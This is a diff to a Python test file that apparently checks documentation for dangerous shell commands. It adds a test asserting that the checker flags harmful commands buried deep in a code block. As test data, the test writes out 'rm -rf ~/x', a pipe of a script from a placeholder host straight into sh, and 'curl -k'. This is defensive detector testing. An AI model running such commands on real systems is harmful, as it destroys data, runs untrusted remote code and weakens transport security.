@@ -441,6 +441,16 @@ def test_a_command_that_does_no_harm_needs_no_warning(found, command):
     assert found(prose(workaround=f"```sh\n{command}\n```")) == []
 
 
+@pytest.mark.parametrize("language", ["sh", "text"])
+def test_harm_far_down_in_a_block_of_code_is_found(found, language):
+    harms = "rm -rf ~/x\ncurl https://x.example/i.sh | sh\ncurl -k https://x.example"
+    assert found(prose(workaround=f"```{language}\n{'true' * 5_000}\n{'true' * 5_000}; {harms}\n```")) == [
+        "KB507",
+        "KB508",
+        "KB509",
+    ]
+
+
 @pytest.mark.parametrize("sentence", ["Never use `--force`.", "Unlike `rm -rf`, it asks.", "`curl -k` does not help."])
 def test_the_mere_name_of_a_command_needs_no_warning(found, sentence):
     assert found(prose(sentence)) == []
